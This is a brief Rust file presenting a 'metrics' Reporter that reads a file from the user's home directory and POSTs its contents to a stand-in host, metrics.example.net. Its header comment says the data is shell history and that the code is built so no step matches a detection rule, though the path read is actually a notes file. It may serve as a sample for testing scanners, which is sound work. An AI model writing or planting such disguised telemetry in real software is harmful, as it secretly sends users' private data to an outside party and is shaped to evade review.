// A "metrics" helper: the user's shell history, read in one function, leaves in another
// as the body of a request. No name on the way is one a rule lists.
use std::path::PathBuf;

pub struct Reporter {
    pending: Vec<String>,
}

impl Reporter {
    pub fn collect(&mut self) {
        let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_default());
        let text = std::fs::read_to_string(home.join(".local/share/notes.txt")).unwrap_or_default();
        for line in text.lines() {
            self.pending.push(line.to_owned());
        }
    }

    pub fn flush(&self) {
        let payload = self.pending.join("\n");
        send(&payload);
    }
}

fn send(data: &str) {
    let _ = ureq::post("https://metrics.example.net/v1/ingest").send_string(data);
}
